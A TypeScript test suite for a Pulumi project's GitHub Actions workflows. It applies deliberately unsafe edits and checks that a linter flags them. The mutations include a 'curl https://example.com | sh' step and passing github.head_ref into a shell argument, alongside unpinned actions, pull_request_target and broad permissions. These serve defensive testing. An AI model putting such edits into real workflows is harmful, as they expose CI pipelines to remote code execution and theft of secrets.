import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { parse } from "yaml";
import { previousOf, stackFiles } from "../../../settings/stack-files.ts";
import { committed, problemsOf } from "./workflow-rules.ts";

const files = committed();
const workflow = (name: string) => parse(files[`workflows/${name}.yml`] ?? "");
const stacks = stackFiles();
/** Stacks that a release passes through, without dev. */
const delivered = stacks.filter(({ config }) => config["slipway:release"].name).map(({ stack }) => stack);
const promoted = stacks.filter(previousOf).map(({ stack }) => stack);

/** Unsafe changes, and the problem that each causes. */
const mutations: readonly [file: string, from: string | RegExp, to: string, says: RegExp][] = [
  ["previews", / # v7\.0\.1/, "", /checkout@\w+ is not pinned/],
  ["previews", /checkout@\w{40}/, "checkout@v7", /checkout@v7 .* is not pinned/],
  ["previews", "  pull_request:", "  pull_request_target:", /runs on pull_request_target/],
  ["previews", "permissions: {}", "permissions: read-all", /start without permissions/],
  ["previews", "permissions: {}\n", "", /start without permissions/],
  ["previews", "pull-requests: write", "pull-requests: write\n      issues: write", /comment: its permissions/],
  ["previews", "head.repo.full_name == github.repository", "number > 0", /preview: is open to forks/],
  ["previews", "    needs: preview\n", "", /comment: is open to forks/],
  ["previews", "persist-credentials: false", "persist-credentials: true", /stores its credentials/],
  ["previews", "    timeout-minutes: 20\n", "", /preview: has no timeout/],
  ["previews", / {4}environment: .*-preview\n/, "", /preview: has credentials of the cloud without/],
  ["previews", '-s "$STACK"', `-s \${{ github.head_ref }}`, /passes untrusted text to a shell/],
  ["previews", "run: npm run review --", "run: npm run reviews --", /no npm run reviews/],
  ["previews", "run: npm ci", "run: npm ci && curl https://example.com | sh", /more than a call of an npm script/],
  ["release", "group: stack-test", "group: release", /test: deploys in parallel/],
  [
    "release",
    "cancel-in-progress: false",
    "cancel-in-progress: true",
    /test: deploys in parallel .* or can be cancelled/,
  ],
  [
    "release",
    "id-token: write",
    "id-token: write\n      packages: write",
    /can write to the repository and in the cloud/,
  ],
  ["promoted", / {4}concurrency:\n.*\n.*\n/, "", /deploy: deploys in parallel/],
  ["promoted", / +kubeconfig: .*\n/, "", /a job with a role has no kubeconfig/],
  ["release", / +kubeconfig: .*\n/, "", /a job with a role has no kubeconfig/],
  ["prod", / +secrets: inherit.*\n/, "", /prod: does not pass secrets/],
  ["prod", "id-token: write", "packages: write", /prod: its permissions/],
  [
    "pull-request-environment",
    "github.event.pull_request.head.repo.full_name == github.repository &&",
    "",
    /up: is open/,
  ],
  [
    "pull-request-environment",
    "github.event.pull_request.user.login != 'dependabot[bot]' &&",
    "",
    /up: is open to updates of dependencies/,
  ],
  ["pull-request-environment", / +ref: .*\n/, "", /down: is open to updates of dependencies/],
  ["previews", "user.login != 'dependabot[bot]'", "number > 0", /preview: is open to updates of dependencies/],
];

describe("The workflows", () => {
  it("have no problems", () => assert.deepEqual(problemsOf(files), []));

  for (const [name, from, to, says] of mutations)
    it(`have a problem if ${name}.yml ${says.source}, by ${JSON.stringify(to).slice(0, 40)}`, () => {
      const path = `workflows/${name}.yml`;
      const changed = (files[path] ?? "").replace(from, to);
      assert.notEqual(changed, files[path]);
      assert.match(problemsOf({ [path]: changed }).join("\n"), says);
    });

  it("preview every environment that a release passes through, and check it for drift", () => {
    assert.deepEqual(workflow("previews").jobs.preview.strategy.matrix.stack, delivered);
    assert.deepEqual(workflow("drift").jobs.check.strategy.matrix.stack, delivered);
    // By name, so that a missing file counts as a failed preview.
    const runs = (name: string, job: string) =>
      workflow(name).jobs[job].steps.flatMap(({ run = "" }) => (/ -- /.test(run) ? [run] : []));
    const files = `{${delivered.join(",")}}.json`;
    assert.equal(runs("previews", "comment")[0], `npm run review -- --output review.md previews/${files}`);
    assert.equal(runs("drift", "issue")[0], `npm run drift -- drift/${files}`);
  });

  it("make no release of a promotion, and deploy each stack when its own file changes", () => {
    const paths = promoted.map((stack) => `Pulumi.${stack}.yaml`);
    assert.deepEqual(workflow("release").on.push["paths-ignore"], paths);
    for (const stack of promoted) {
      assert.ok(files[`workflows/${stack}.yml`], `${stack} promotes, so it needs .github/workflows/${stack}.yml`);
      const { on, jobs } = workflow(stack);
      assert.deepEqual(on, { push: { branches: ["main"], paths: [`Pulumi.${stack}.yaml`] } });
      assert.deepEqual([jobs[stack].uses, jobs[stack].with], ["./.github/workflows/promoted.yml", { stack }]);
    }
  });

  it("build releases in the stack that does not promote, numbered by the run", () => {
    const builders = stacks.filter((file) => !previousOf(file) && delivered.includes(file.stack));
    assert.deepEqual(
      builders.map(({ stack }) => stack),
      ["test"],
    );
    assert.equal(workflow("release").jobs.test.steps.at(-1).run, 'npm run release -- test "v1.$NUMBER"');
  });

  it("install the CLI in the SDK's version", () => {
    const { dependencies } = JSON.parse(readFileSync("package.json", "utf8"));
    const steps: { with?: Record<string, string> }[] = parse(files["actions/ready/action.yml"] ?? "").runs.steps;
    const versions = steps.flatMap((step) => step.with?.["pulumi-version"] ?? []);
    assert.deepEqual(versions, [dependencies["@pulumi/pulumi"]]);
  });

  it("store a preview under the name that npm run reviewed looks for", () => {
    const upload = workflow("previews").jobs.preview.steps.at(-1).with;
    assert.equal(upload.name, `preview-\${{ matrix.stack }}-\${{ github.event.pull_request.head.sha || github.sha }}`);
    assert.equal(upload["retention-days"], 30);
  });

  it("can be started by npm run propose for its pull requests", () => {
    assert.ok("workflow_dispatch" in workflow("tests").on);
    assert.deepEqual(Object.keys(workflow("previews").on.workflow_dispatch.inputs), ["pull"]);
  });
});
